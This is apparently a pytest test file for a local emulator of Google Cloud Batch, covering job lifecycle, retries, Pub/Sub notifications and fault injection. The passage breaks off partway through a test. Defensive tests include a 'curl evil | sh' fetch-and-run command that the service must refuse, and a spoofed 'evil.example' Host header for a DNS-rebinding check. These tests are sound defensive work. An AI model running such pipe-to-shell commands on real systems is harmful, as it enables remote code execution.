"""The local Batch service, driven by the REAL google-cloud-batch client (REST) and the REAL Pub/Sub
emulator: the service runs as a subprocess, jobs run as host processes.

Jobs run a small fake worker (``--worker-command``) steered by its task environment:
``FAKE_SLEEP_S`` (seconds to sleep) and ``FAKE_EXIT_CODES`` (comma-separated exit code per retry
attempt, the last one repeating; the task at index ``FAKE_FAIL_INDEX`` exits 10). It writes ``pid`` and ``env.json`` into its working directory.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import textwrap
import time
import urllib.error
import urllib.request
import uuid
from collections.abc import Callable
from pathlib import Path

import pytest
from google.api_core import exceptions
from google.cloud import batch_v1
from google.protobuf import duration_pb2

from covalent_gcpbatch_plugin import clients, protocol
from covalent_gcpbatch_plugin.local.batch.model import (
    HOST_ONLY_PREFIXES,
    Verdict,
    attempt_verdict,
    runnable_argv,
    task_environment,
)
from covalent_gcpbatch_plugin.local.batch.service import route
from workflow_helpers import attempt_exit_codes

from helpers_emulators import (
    EmulatorUnavailable,
    free_port,
    start_pubsub_emulator,
    stop_process_group,
    unavailable,
    wait_until_answers,
)

PROJECT = "local-project"
PROJECT_NUMBER = "123456789012"
REGION = "us-central1"
PARENT = f"projects/{PROJECT}/locations/{REGION}"
State = batch_v1.JobStatus.State
Action = batch_v1.LifecyclePolicy.Action

FAKE_WORKER = textwrap.dedent(
    """
    import json, os, sys, time
    with open("pid", "w") as f:
        f.write(str(os.getpid()))
    with open("env.json", "w") as f:
        json.dump({"cwd": os.getcwd(), "env": dict(os.environ)}, f)
    time.sleep(float(os.environ.get("FAKE_SLEEP_S", "0")))
    codes = os.environ.get("FAKE_EXIT_CODES", "0").split(",")
    if os.environ.get("BATCH_TASK_INDEX") == os.environ.get("FAKE_FAIL_INDEX"):
        codes = ["10"]
    attempt = int(os.environ.get("BATCH_TASK_RETRY_ATTEMPT", "0"))
    sys.exit(int(codes[min(attempt, len(codes) - 1)]))
    """
)


MODEL_SCALE = 0.01
#: The service's secret store (its --secrets-dir): one secret, two versions.
SECRET = f"projects/{PROJECT}/secrets/api-token"
SECRET_VALUES = {"1": f"first-{uuid.uuid4().hex}", "2": f"second-{uuid.uuid4().hex}"}

# ---------------------------------------------------------------------------------------------
# Fixtures
# ---------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def pubsub_host(tmp_path_factory):
    try:
        proc, host = start_pubsub_emulator(tmp_path_factory.mktemp("pubsub"))
    except EmulatorUnavailable as err:
        unavailable(str(err))
    yield host
    stop_process_group(proc)


def start_service(root: Path, env: dict[str, str], *extra: str) -> tuple[subprocess.Popen, str]:
    """The service as a real subprocess in its own session; (process, endpoint) once ready."""
    root.mkdir(parents=True, exist_ok=True)
    worker = root / "fake_worker.py"
    worker.write_text(FAKE_WORKER)
    port = free_port()
    log_file = root / "service.log"
    with open(log_file, "wb") as log:
        proc = subprocess.Popen(
            [sys.executable, "-m", "covalent_gcpbatch_plugin.local.batch.service", "--host", "127.0.0.1",
             "--port", str(port), "--state-dir", str(root / "state"), "--project-number-map",
             f"{PROJECT}={PROJECT_NUMBER}", "--worker-command", f"python {worker}", *extra],
            env=env, stdout=log, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL, start_new_session=True,
        )
    endpoint = f"http://127.0.0.1:{port}"
    try:
        wait_until_answers(proc, f"{endpoint}/_admin/stats", 30, log_file)
    except BaseException:
        stop_process_group(proc)
        raise
    return proc, endpoint


@pytest.fixture(scope="module")
def service(tmp_path_factory, pubsub_host):
    root = tmp_path_factory.mktemp("batch")
    env = {**os.environ, "PUBSUB_EMULATOR_HOST": pubsub_host, "STORAGE_EMULATOR_HOST": "http://127.0.0.1:9"}
    secrets_dir = root / "secrets"
    versions = secrets_dir / SECRET / "versions"
    versions.mkdir(parents=True)
    for version, value in SECRET_VALUES.items():
        (versions / version).write_text(value)
    proc, endpoint = start_service(root, env, "--max-running", "2", "--secrets-dir", str(secrets_dir))
    yield endpoint, root / "state"
    stop_process_group(proc)
    assert proc.returncode == 0, (root / "service.log").read_text()[-3000:]


@pytest.fixture(scope="module")
def modelled(tmp_path_factory, pubsub_host):
    """A service running the realistic latency model, 100x faster than Batch (a 90 s boot in 0.9 s)."""
    root = tmp_path_factory.mktemp("batch-modelled")
    env = {**os.environ, "PUBSUB_EMULATOR_HOST": pubsub_host, "STORAGE_EMULATOR_HOST": "http://127.0.0.1:9"}
    proc, endpoint = start_service(root, env, "--max-running", "8", "--latency-model", "realistic",
                                   "--time-scale", str(MODEL_SCALE))
    yield endpoint
    stop_process_group(proc)


@pytest.fixture
def endpoint(service):
    admin(service[0], "reset", {})
    return service[0]


@pytest.fixture
def state_dir(service) -> Path:
    return service[1]


@pytest.fixture
def client(endpoint):
    return clients.batch_client(endpoint)


@pytest.fixture
def topic(pubsub_host):
    """A fresh topic with a subscription: (topic path, pull function)."""
    name = f"jobs-{uuid.uuid4().hex[:8]}"
    topic_path = f"projects/{PROJECT}/topics/{name}"
    publisher = clients.publisher_client(pubsub_host)
    subscriber = clients.subscriber_client(pubsub_host)
    publisher.create_topic(name=topic_path)
    subscription = f"projects/{PROJECT}/subscriptions/{name}"
    subscriber.create_subscription(name=subscription, topic=topic_path)

    def pull(until: Callable[[list], bool], timeout: float = 15.0) -> list:
        received: list = []
        deadline = time.monotonic() + timeout
        while not until(received) and time.monotonic() < deadline:
            try:
                response = subscriber.pull(subscription=subscription, max_messages=100, timeout=2)
            except exceptions.DeadlineExceeded:
                continue
            if response.received_messages:
                subscriber.acknowledge(subscription=subscription, ack_ids=[m.ack_id for m in response.received_messages])
            received.extend(m.message for m in response.received_messages)
        return received

    yield topic_path, pull
    subscriber.delete_subscription(subscription=subscription)
    publisher.delete_topic(topic=topic_path)


# ---------------------------------------------------------------------------------------------
# Helpers
# ---------------------------------------------------------------------------------------------


def admin(endpoint: str, what: str, body: dict | None = None) -> dict:
    data = None if body is None else json.dumps(body).encode()
    with urllib.request.urlopen(urllib.request.Request(f"{endpoint}/_admin/{what}", data=data), timeout=10) as r:
        return json.loads(r.read())


def make_job(env: dict[str, str] | None = None, *, retries: int = 0, policy: batch_v1.LifecyclePolicy | None = None,
             max_run_s: int = 0, notifications: list[batch_v1.JobNotification] = (),
             runnable: batch_v1.Runnable | None = None) -> batch_v1.Job:
    spec = batch_v1.TaskSpec(
        runnables=[runnable or batch_v1.Runnable(container=batch_v1.Runnable.Container(image_uri="local/worker:dev"))],
        environment=batch_v1.Environment(variables=env or {}),
        max_retry_count=retries,
        lifecycle_policies=[policy] if policy else [],
    )
    if max_run_s:
        spec.max_run_duration = duration_pb2.Duration(seconds=max_run_s)
    return batch_v1.Job(task_groups=[batch_v1.TaskGroup(task_spec=spec, task_count=1)], labels={"created-by": "tests"},
                        notifications=list(notifications))


def notify(topic_path: str, state: State | None = None) -> batch_v1.JobNotification:
    message = batch_v1.JobNotification.Message(type_=batch_v1.JobNotification.Type.JOB_STATE_CHANGED)
    if state is not None:
        message.new_job_state = state
    return batch_v1.JobNotification(pubsub_topic=topic_path, message=message)


def new_id(prefix: str = "job") -> str:
    return f"{prefix}-{uuid.uuid4().hex[:10]}"


def create(client, job: batch_v1.Job, job_id: str | None = None) -> batch_v1.Job:
    return client.create_job(parent=PARENT, job_id=job_id or new_id(), job=job)


def wait_state(client, name: str, states: set[State], timeout: float = 15.0) -> batch_v1.Job:
    deadline = time.monotonic() + timeout
    while True:
        job = client.get_job(name=name)
        if job.status.state in states or time.monotonic() > deadline:
            assert job.status.state in states, f"{name} is {job.status.state.name}, expected {states}"
            return job
        time.sleep(0.05)


exit_codes = attempt_exit_codes


def job_id_of(job: batch_v1.Job) -> str:
    return job.name.rsplit("/", 1)[-1]


def wait_for_pid(state_dir: Path, job_id: str, attempt: int = 0, timeout: float = 10.0) -> int:
    pid_file = state_dir / "jobs" / job_id / f"attempt-{attempt}" / "pid"
    deadline = time.monotonic() + timeout
    while not (pid_file.exists() and pid_file.read_text()):
        assert time.monotonic() < deadline, f"{pid_file} never appeared"
        time.sleep(0.02)
    return int(pid_file.read_text())


def process_gone(pid: int, timeout: float = 5.0) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            return True
        time.sleep(0.02)
    return False


# ---------------------------------------------------------------------------------------------
# Pure translation (no service)
# ---------------------------------------------------------------------------------------------

FAIL_NO_RETRY = batch_v1.LifecyclePolicy(
    action=Action.FAIL_TASK,
    action_condition=batch_v1.LifecyclePolicy.ActionCondition(
        exit_codes=[protocol.EXIT_TASK_FAILED, protocol.EXIT_WORKER_ERROR, protocol.EXIT_MAX_RUN_DURATION]),
)
RETRY_ONLY_50001 = batch_v1.LifecyclePolicy(
    action=Action.RETRY_TASK, action_condition=batch_v1.LifecyclePolicy.ActionCondition(exit_codes=[50001])
)


@pytest.mark.parametrize(
    ("code", "retries_done", "max_retry", "policy", "verdict"),
    [
        (0, 0, 0, None, Verdict.SUCCEEDED),
        (1, 0, 0, None, Verdict.FAILED),
        (1, 0, 2, None, Verdict.RETRY),
        (1, 2, 2, None, Verdict.FAILED),
        (protocol.EXIT_TASK_FAILED, 0, 3, FAIL_NO_RETRY, Verdict.FAILED),
        (protocol.EXIT_MAX_RUN_DURATION, 0, 3, FAIL_NO_RETRY, Verdict.FAILED),
        (50001, 0, 3, FAIL_NO_RETRY, Verdict.RETRY),
        (50001, 0, 3, RETRY_ONLY_50001, Verdict.RETRY),
        (50001, 3, 3, RETRY_ONLY_50001, Verdict.FAILED),
        (7, 0, 3, RETRY_ONLY_50001, Verdict.FAILED),
    ],
)
def test_attempt_verdict(code, retries_done, max_retry, policy, verdict):
    spec = batch_v1.TaskSpec(max_retry_count=max_retry, lifecycle_policies=[policy] if policy else [])
    assert attempt_verdict(code, retries_done, spec) is verdict


def test_route_and_runnable_translation():
    assert route("POST", f"/v1/{PARENT}/jobs").action == "create"
    assert route("GET", f"/v1/{PARENT}/jobs").action == "list"
    got = route("GET", f"/v1/{PARENT}/jobs/abc")
    assert (got.action, got.project, got.region, got.job_id) == ("get", PROJECT, REGION, "abc")
    assert route("POST", f"/v1/{PARENT}/jobs/abc:cancel").action == "cancel"
    assert route("DELETE", f"/v1/{PARENT}/jobs/abc").action == "delete"
    assert route("PUT", f"/v1/{PARENT}/jobs/abc") is None
    assert route("GET", "/_admin/stats").action == "stats"

    container = batch_v1.Runnable(container=batch_v1.Runnable.Container(image_uri="img", commands=["--x"]))
    assert runnable_argv(container, ["worker"]) == ["worker", "--x"]

    spec = batch_v1.TaskSpec(environment=batch_v1.Environment(variables={"A": "task", "B": "task"}))
    runnable = batch_v1.Runnable(environment=batch_v1.Environment(variables={"B": "runnable"}))
    host = {"A": "base", "PATH": "/bin", "PYTHONPATH": "/dev/venv", "HOME": "/home/me",
            "COVALENT_CONFIG_DIR": "/home/me/cov", "XDG_CONFIG_DIR": "/home/me/xdg"}
    env = task_environment(host, spec, runnable, 2, Path("/a/site"), home=Path("/a"))
    assert (env["A"], env["B"], env["PATH"], env["BATCH_TASK_RETRY_ATTEMPT"]) == ("task", "runnable", "/bin", "2")
    assert env["PIP_TARGET"] == env["PYTHONPATH"] == "/a/site", "what a task installs stays in its attempt"
    assert env["HOME"] == "/a" and "COVALENT_CONFIG_DIR" not in env and "XDG_CONFIG_DIR" not in env, \
        "a worker has its own home, never the dispatching user's Covalent config"
    assert env["PIP_CACHE_DIR"] == "/home/me/.cache/pip"


@pytest.mark.parametrize(
    "runnable, fragment",
    [
        (batch_v1.Runnable(script=batch_v1.Runnable.Script(text="curl evil | sh")), "container runnables"),
        (batch_v1.Runnable(script=batch_v1.Runnable.Script(path="/tmp/x.sh")), "container runnables"),
        (batch_v1.Runnable(container=batch_v1.Runnable.Container(image_uri="img", entrypoint="/bin/sh")), "entrypoint"),
        (batch_v1.Runnable(container=batch_v1.Runnable.Container(image_uri="img"), background=True), "foreground"),
    ],
)
def test_only_the_worker_image_entrypoint_runs(client, endpoint, runnable, fragment):
    """Anything on this machine can reach the service: a request cannot make it run a command."""
    job = make_job({})
    job.task_groups[0].task_spec.runnables = [runnable]
    with pytest.raises(exceptions.BadRequest) as info:
        create(client, job, new_id("cmd"))
    assert fragment in str(info.value)


# ---------------------------------------------------------------------------------------------
# The service through the real client
# ---------------------------------------------------------------------------------------------


def test_create_get_list_delete_round_trip(client, endpoint):
    job_id = new_id("round")
    created = create(client, make_job({"FAKE_SLEEP_S": "0.2"}), job_id)
    assert created.name == f"{PARENT}/jobs/{job_id}"
    assert created.uid and created.create_time.timestamp() > 0
    assert created.status.state == State.QUEUED
    assert created.labels["created-by"] == "tests"

    got = client.get_job(name=created.name)
    assert got.uid == created.uid
    assert got.task_groups[0].task_spec.runnables[0].container.image_uri == "local/worker:dev"
    assert created.name in [j.name for j in client.list_jobs(parent=PARENT)]

    done = wait_state(client, created.name, {State.SUCCEEDED})
    assert exit_codes(done) == [0]
    assert done.status.run_duration.total_seconds() >= 0.2
    running = client.list_jobs(request=batch_v1.ListJobsRequest(parent=PARENT, filter='status.state="RUNNING"'))
    assert created.name not in [j.name for j in running]

    client.delete_job(name=created.name).result(timeout=10)
    with pytest.raises(exceptions.NotFound):
        client.get_job(name=created.name)
    calls = admin(endpoint, "stats")["calls"]
    assert calls["create"] == 1 and calls["delete"] == 1 and calls["list"] == 2 and calls["get"] >= 2


def test_list_filters_by_labels_and_state_and_refuses_other_filters(client):
    """The ListJobs filter `covalent-gcpbatch jobs` sends (an AND of labels."K" = "V" terms, as dsub
    sends them to Batch) and status.state are applied by the service; anything else is a 400."""
    team = new_id("team")
    tagged = make_job()
    tagged.labels = {"created-by": "tests", "team-name": team}
    mine = create(client, tagged)
    theirs = create(client, make_job())
    wanted = f'labels."created-by" = "tests" AND labels."team-name" = "{team}"'
    listed = [j.name for j in client.list_jobs(request=batch_v1.ListJobsRequest(parent=PARENT, filter=wanted))]
    assert listed == [mine.name] and theirs.name in [j.name for j in client.list_jobs(parent=PARENT)]
    done = wait_state(client, mine.name, {State.SUCCEEDED, State.FAILED})
    in_state = f'{wanted} AND status.state="{done.status.state.name}"'
    assert [j.name for j in client.list_jobs(request=batch_v1.ListJobsRequest(parent=PARENT, filter=in_state))] == [mine.name]
    for refused in ('labels.team-name="x"', f'{wanted} OR status.state="RUNNING"', 'status.state="SLEEPING"'):
        with pytest.raises(exceptions.BadRequest) as bad:
            list(client.list_jobs(request=batch_v1.ListJobsRequest(parent=PARENT, filter=refused)))
        assert bad.value.code == 400 and "filter" in bad.value.message, refused


def test_errors_map_to_google_exceptions(client):
    job_id = new_id("dup")
    create(client, make_job(), job_id)
    # Over REST, api_core maps HTTP 409 to Conflict (AlreadyExists, its subclass, comes only
    # from gRPC): callers must catch Conflict to cover both transports.
    with pytest.raises(exceptions.Conflict) as dup:
        create(client, make_job(), job_id)
    assert dup.value.code == 409 and "already exists" in dup.value.message
    with pytest.raises(exceptions.BadRequest, match="must match"):
        create(client, make_job(), "Not_Valid")
    with pytest.raises(exceptions.BadRequest, match="runnable"):
        create(client, batch_v1.Job(task_groups=[batch_v1.TaskGroup(task_spec=batch_v1.TaskSpec())]))
    with pytest.raises(exceptions.BadRequest, match="task group"):
        create(client, batch_v1.Job())
    two = make_job()
    two.task_groups.append(two.task_groups[0])
    with pytest.raises(exceptions.BadRequest, match="only one task group"):
        create(client, two)
    with pytest.raises(exceptions.NotFound):
        client.get_job(name=f"{PARENT}/jobs/no-such-job")
    with pytest.raises(exceptions.NotFound):
        client.delete_job(name=f"{PARENT}/jobs/no-such-job")


def test_success_publishes_every_state_with_project_number(client, endpoint, state_dir, topic, pubsub_host):
    topic_path, pull = topic
    job = make_job({"FAKE_SLEEP_S": "0.1", "FROM_TASK": "task", "OVERRIDDEN": "task"},
                   notifications=[notify(topic_path), notify(topic_path, State.SUCCEEDED)])
    job.task_groups[0].task_spec.runnables[0].environment.variables["OVERRIDDEN"] = "runnable"
    created = create(client, job)
    job_id = job_id_of(created)
    done = wait_state(client, created.name, {State.SUCCEEDED})

    expected = ["QUEUED", "SCHEDULED", "RUNNING", "SUCCEEDED"]
    messages = pull(lambda got: sum(m.attributes["NewJobState"] == "SUCCEEDED" for m in got) >= 2)
    events = [protocol.parse_notification(m.attributes, m.data) for m in messages]
    assert all(e is not None and e.job_id == job_id for e in events)
    # every state once from the unfiltered entry, SUCCEEDED once more from the filtered one
    assert sorted(e.state.value for e in events) == sorted([*expected, "SUCCEEDED"])
    for m in messages:
        assert m.attributes["JobName"] == f"projects/{PROJECT_NUMBER}/locations/{REGION}/jobs/{job_id}"
        assert m.attributes["JobUID"] == created.uid and m.attributes["Region"] == REGION
        assert m.data.startswith(b"Job state was updated: ")

    # state-entry times: in the stats and in the job's status events, in order
    times = admin(endpoint, "stats")["jobs"][job_id]
    assert [s for s in expected if s in times] == expected
    assert [times[s] for s in expected] == sorted(times[s] for s in expected)
    job_events = [e for e in done.status.status_events if e.description.startswith("Job state")]
    assert [e.description.split(" to ")[1].split()[0] for e in job_events] == expected
    assert abs(job_events[-1].event_time.timestamp() - times["SUCCEEDED"]) < 0.01

    seen = json.loads((state_dir / "jobs" / job_id / "attempt-0" / "env.json").read_text())
    assert Path(seen["cwd"]) == (state_dir / "jobs" / job_id / "attempt-0").resolve()
    assert seen["env"]["FROM_TASK"] == "task" and seen["env"]["OVERRIDDEN"] == "runnable"
    assert seen["env"]["PUBSUB_EMULATOR_HOST"] == pubsub_host
    assert seen["env"]["STORAGE_EMULATOR_HOST"] == "http://127.0.0.1:9"
    # As in a container: its own home, and nothing that locates this process's Covalent config
    # (a worker's `import covalent` rewrites the config it finds).
    assert Path(seen["env"]["HOME"]).resolve() == Path(seen["cwd"])
    assert not [name for name in seen["env"] if name.startswith(HOST_ONLY_PREFIXES)], seen["env"]


def test_tasks_keep_their_attempts_exit_codes_and_publish_task_messages(client, endpoint, topic):
    """get_task/list_tasks as Batch serves them: the exit code of every attempt in the task's own
    status events (task_execution), and TASK_STATE_CHANGED messages in Batch's shape."""
    topic_path, pull = topic
    task_notice = batch_v1.JobNotification(pubsub_topic=topic_path, message=batch_v1.JobNotification.Message(
        type_=batch_v1.JobNotification.Type.TASK_STATE_CHANGED))
    created = create(client, make_job({"FAKE_EXIT_CODES": "7,0"}, retries=2, policy=FAIL_NO_RETRY,
                                      notifications=[task_notice]))
    wait_state(client, created.name, {State.SUCCEEDED})
    group = f"{created.name}/taskGroups/group0"
    task = client.get_task(name=f"{group}/tasks/0")
    assert task.status.state == batch_v1.TaskStatus.State.SUCCEEDED
    assert [e.task_execution.exit_code for e in task.status.status_events if "exit code" in e.description] == [7, 0]
    assert [t.name for t in client.list_tasks(parent=group)] == [task.name]
    with pytest.raises(exceptions.NotFound):
        client.get_task(name=f"{group}/tasks/1")

    messages = pull(lambda got: any(m.attributes.get("NewTaskState") == "SUCCEEDED" for m in got))
    events = [protocol.parse_task_notification(m.attributes, m.data) for m in messages]
    assert [(e.job_id, e.task_index) for e in events] == [(job_id_of(created), 0)] * len(events)
    assert [e.state for e in events] == ["ASSIGNED", "RUNNING", "SUCCEEDED"], "a retried attempt stays RUNNING"
    for m in messages:
        assert m.attributes["TaskName"] == f"projects/{PROJECT_NUMBER}/locations/{REGION}/jobs/{job_id_of(created)}/taskGroups/group0/tasks/0"
        assert m.attributes["JobUID"] == created.uid and m.data.startswith(b"Task state was updated: ")
    assert not [m for m in messages if "NewJobState" in m.attributes], "no job messages were asked for"
    assert admin(endpoint, "stats")["calls"]["get_task"] == 2


def test_nonzero_exit_fails_with_exit_code(client):
    created = create(client, make_job({"FAKE_EXIT_CODES": "3"}))
    done = wait_state(client, created.name, {State.FAILED})
    assert exit_codes(done) == [3]
    assert done.status.task_groups["group0"].counts["FAILED"] == 1


def test_lifecycle_policy_fail_task_vs_retry(client, endpoint):
    # a FAIL_TASK code fails at once; any other code is retried max_retry_count times
    no_retry = create(client, make_job({"FAKE_EXIT_CODES": str(protocol.EXIT_TASK_FAILED)}, retries=2,
                                       policy=FAIL_NO_RETRY))
    retried = create(client, make_job({"FAKE_EXIT_CODES": "7"}, retries=2, policy=FAIL_NO_RETRY))
    recovers = create(client, make_job({"FAKE_EXIT_CODES": "7,0"}, retries=2, policy=FAIL_NO_RETRY))
    only_listed = create(client, make_job({"FAKE_EXIT_CODES": "7"}, retries=2, policy=RETRY_ONLY_50001))

    assert exit_codes(wait_state(client, no_retry.name, {State.FAILED})) == [protocol.EXIT_TASK_FAILED]
    assert exit_codes(wait_state(client, retried.name, {State.FAILED})) == [7, 7, 7]
    assert exit_codes(wait_state(client, recovers.name, {State.SUCCEEDED})) == [7, 0]
    assert exit_codes(wait_state(client, only_listed.name, {State.FAILED})) == [7]


def test_max_run_duration_kills_with_50005(client, state_dir):
    created = create(client, make_job({"FAKE_SLEEP_S": "60"}, retries=3, max_run_s=1, policy=FAIL_NO_RETRY))
    pid = wait_for_pid(state_dir, job_id_of(created))
    done = wait_state(client, created.name, {State.FAILED}, timeout=10)
    assert exit_codes(done) == [protocol.EXIT_MAX_RUN_DURATION]
    assert any("max run duration" in e.description for e in done.status.status_events)
    assert process_gone(pid)


def test_cancel_running_and_queued_jobs(client, endpoint, state_dir):
    # --max-running 2: two long jobs run, the third waits in QUEUED
    long_jobs = [create(client, make_job({"FAKE_SLEEP_S": "60"})) for _ in range(2)]
    pids = [wait_for_pid(state_dir, job_id_of(j)) for j in long_jobs]
    queued = create(client, make_job())
    time.sleep(0.3)
    assert client.get_job(name=queued.name).status.state == State.QUEUED
    assert set(admin(endpoint, "active")["active"]) >= {job_id_of(j) for j in [*long_jobs, queued]}

    client.cancel_job(name=queued.name).result(timeout=10)
    assert client.get_job(name=queued.name).status.state == State.CANCELLED
    assert not (state_dir / "jobs" / job_id_of(queued) / "attempt-0").exists()

    # As Batch does: the operation is not done when cancel_job answers; the client's result()
    # follows it (GET /v1/<operation name>) until the job is CANCELLED.
    operation = client.cancel_job(name=long_jobs[0].name)
    assert operation.operation.done is False
    operation.result(timeout=10)
    assert operation.metadata.verb == "cancel" and operation.metadata.target == long_jobs[0].name
    cancelled = client.get_job(name=long_jobs[0].name)
    assert cancelled.status.state == State.CANCELLED
    assert "to CANCELLATION_IN_PROGRESS" in " ".join(e.description for e in cancelled.status.status_events)
    assert process_gone(pids[0])

    client.delete_job(name=long_jobs[1].name).result(timeout=10)
    with pytest.raises(exceptions.NotFound):
        client.get_job(name=long_jobs[1].name)
    assert process_gone(pids[1])
    assert "DELETION_IN_PROGRESS" in admin(endpoint, "stats")["jobs"][job_id_of(long_jobs[1])]
    assert not {job_id_of(j) for j in long_jobs} & set(admin(endpoint, "active")["active"])


def test_preempt_fault_then_success(client, endpoint):
    job_id = new_id("spot")
    admin(endpoint, "faults", {"preempt": {job_id: 1}})
    created = create(client, make_job(retries=1, policy=FAIL_NO_RETRY), job_id)
    done = wait_state(client, created.name, {State.SUCCEEDED})
    assert exit_codes(done) == [50001, 0]
    # without retries the preemption fails the job
    admin(endpoint, "faults", {"preempt": {"*": 1}})
    failed = wait_state(client, create(client, make_job()).name, {State.FAILED})
    assert exit_codes(failed) == [50001]


def test_fail_create_fault_reaches_the_client(client, endpoint):
    admin(endpoint, "faults", {"fail_create": 1, "fail_create_status": 503})
    with pytest.raises(exceptions.ServiceUnavailable):
        create(client, make_job())
    create(client, make_job())  # the next one goes through
    assert admin(endpoint, "stats")["calls"]["create"] == 2


def test_notification_faults_drop_and_duplicate(client, endpoint, topic):
    topic_path, pull = topic
    admin(endpoint, "faults", {"drop_notifications": {"*": ["RUNNING"]}, "duplicate_notifications": True})
    created = create(client, make_job(notifications=[notify(topic_path)]))
    wait_state(client, created.name, {State.SUCCEEDED})
    messages = pull(lambda got: sum(m.attributes["NewJobState"] == "SUCCEEDED" for m in got) >= 2)
    messages += pull(lambda got: False, timeout=0.5)  # nothing else should trickle in
    states = sorted(m.attributes["NewJobState"] for m in messages)
    assert states == sorted(["QUEUED", "SCHEDULED", "SUCCEEDED"] * 2)
    assert admin(endpoint, "stats")["notifications"]["dropped"] == 1


def test_fail_create_after_commit_loses_the_answer_not_the_job(client, endpoint):
    """A lost acknowledgement: the job is created and runs, the client sees an error, and its retry
    of the same id meets 409 (Conflict over REST)."""
    admin(endpoint, "faults", {"fail_create_after_commit": 1})
    job_id = new_id("lost-ack")
    with pytest.raises(exceptions.ServiceUnavailable, match="fail_create_after_commit"):
        create(client, make_job(), job_id)
    name = f"{PARENT}/jobs/{job_id}"
    assert client.get_job(name=name).name == name
    with pytest.raises(exceptions.Conflict) as dup:
        create(client, make_job(), job_id)
    assert dup.value.code == 409
    wait_state(client, name, {State.SUCCEEDED})
    stats = admin(endpoint, "stats")
    assert stats["create_attempts"][job_id] == 2 and stats["faults"]["fail_create_after_commit"] == 0


def test_delayed_notifications_all_arrive(client, endpoint, topic):
    """Each message published after its own random delay: late, maybe out of order, none lost."""
    topic_path, pull = topic
    task_notice = batch_v1.JobNotification(pubsub_topic=topic_path, message=batch_v1.JobNotification.Message(
        type_=batch_v1.JobNotification.Type.TASK_STATE_CHANGED))
    admin(endpoint, "faults", {"delay_notifications_s": 1.0})
    created = create(client, make_job({"FAKE_SLEEP_S": "0.1"}, notifications=[notify(topic_path), task_notice]))
    wait_state(client, created.name, {State.SUCCEEDED})
    messages = pull(lambda got: len(got) >= 7)
    messages += pull(lambda got: False, timeout=1.5)  # nothing else should trickle in
    job_states = sorted(m.attributes["NewJobState"] for m in messages if "NewJobState" in m.attributes)
    task_states = sorted(m.attributes["NewTaskState"] for m in messages if "NewTaskState" in m.attributes)
    assert job_states == sorted(["QUEUED", "SCHEDULED", "RUNNING", "SUCCEEDED"])
    assert task_states == sorted(["ASSIGNED", "RUNNING", "SUCCEEDED"])
    assert admin(endpoint, "stats")["notifications"]["delayed"] == 7
    assert admin(endpoint, "faults", {"delay_notifications_s": 0})["delay_notifications_s"] == 0


def test_kill_running_ends_the_attempt_with_137(client, endpoint, state_dir):
    """As the OOM killer would: the worker's process group is SIGKILLed, the attempt ends with
    exit code 137 and, without retries, the job fails."""
    created = create(client, make_job({"FAKE_SLEEP_S": "60"}))
    pid = wait_for_pid(state_dir, job_id_of(created))
    assert admin(endpoint, "faults", {"kill_running": 1})["kill_running"] == 0, "an action, not a standing fault"
    done = wait_state(client, created.name, {State.FAILED}, timeout=10)
    assert exit_codes(done) == [137]
    task = client.get_task(name=f"{created.name}/taskGroups/group0/tasks/0")
    assert [e.task_execution.exit_code for e in task.status.status_events if "exit code" in e.description] == [137]
    assert process_gone(pid)
    assert admin(endpoint, "stats")["killed"] == 1


@pytest.mark.parametrize("body", [{"fail_create_after_commit_status": 200}, {"delay_notifications_s": -1},
                                  {"delay_notifications_s": "NaN"}, {"kill_running": -1}])
def test_bad_fault_values_are_refused(endpoint, body):
    with pytest.raises(urllib.error.HTTPError) as info:
        admin(endpoint, "faults", body)
    assert info.value.code == 400
    faults = admin(endpoint, "stats")["faults"]
    assert (faults["fail_create_after_commit_status"], faults["delay_notifications_s"], faults["kill_running"]) == (503, 0, 0)


def test_sigterm_kills_running_jobs(tmp_path):
    proc, endpoint = start_service(tmp_path, dict(os.environ))
    try:
        client = clients.batch_client(endpoint)
        created = create(client, make_job({"FAKE_SLEEP_S": "60"}))
        pid = wait_for_pid(tmp_path / "state", job_id_of(created))
        proc.terminate()  # SIGTERM to the service only, not its group
        assert proc.wait(timeout=10) == 0
        assert process_gone(pid)
    finally:
        stop_process_group(proc)


def test_requests_for_another_host_are_refused(endpoint):
    """DNS rebinding: a page whose name resolves to 127.0.0.1 sends its own Host header."""
    import http.client

    port = int(endpoint.rsplit(":", 1)[1])
    for host, status in ((f"evil.example:{port}", 403), (f"127.0.0.1:{port}", 200)):
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
        try:
            connection.request("GET", "/_admin/stats", headers={"Host": host})
            assert connection.getresponse().status == status, host
        finally:
            connection.close()


def test_the_latency_model_admits_boots_and_bills_as_batch(modelled):
    """Admission 5 s after create and one job per 2 s, a 90 s boot per VM, every VM billed its
    lifetime with a one-minute minimum: model seconds, as the service's own stamps show them."""
    from covalent_gcpbatch_plugin.local.batch.latency import LatencyModel

    model, client = LatencyModel.realistic(MODEL_SCALE), clients.batch_client(modelled)
    jobs = [create(client, make_job({"FAKE_SLEEP_S": "0.2"})) for _ in range(4)]
    cancelled = create(client, make_job({"FAKE_SLEEP_S": "30"}))
    wait_state(client, cancelled.name, {State.SCHEDULED}, timeout=30)
    client.cancel_job(name=cancelled.name).result(timeout=30)  # during its VM's boot
    for job in jobs:
        wait_state(client, job.name, {State.SUCCEEDED}, timeout=60)
    stats = admin(modelled, "stats")
    times = [stats["jobs"][job_id_of(j)] for j in jobs]
    tolerance = 0.005
    for t in times:
        assert t["SCHEDULED"] - t["QUEUED"] >= model.real(model.create_to_scheduled_s) - tolerance
        assert t["RUNNING"] - t["SCHEDULED"] >= model.real(model.boot_s) - tolerance
    admitted = sorted(t["SCHEDULED"] for t in times)
    assert all(b - a >= model.real(1 / model.admission_per_s) - tolerance for a, b in zip(admitted, admitted[1:]))
    assert "RUNNING" not in stats["jobs"][job_id_of(cancelled)], "cancelled while its VM booted"
    vms = stats["vms"]
    assert vms["boots"] == 5
    ran = model.boot_s + model.model_seconds(0.2)  # each finished job's VM lived at least this long
    assert vms["lifetime_s"] >= 4 * ran
    assert vms["billed_s"] >= 4 * ran + model.min_billed_s, "the cancelled VM is billed its minute minimum"
    assert stats["model"]["enabled"] is True and stats["model"]["time_scale"] == MODEL_SCALE


def test_a_task_array_runs_each_task_with_its_index_on_reused_vms(modelled, topic):
    """Six tasks, two at once: two VM boots (each VM runs task after task), each task its own
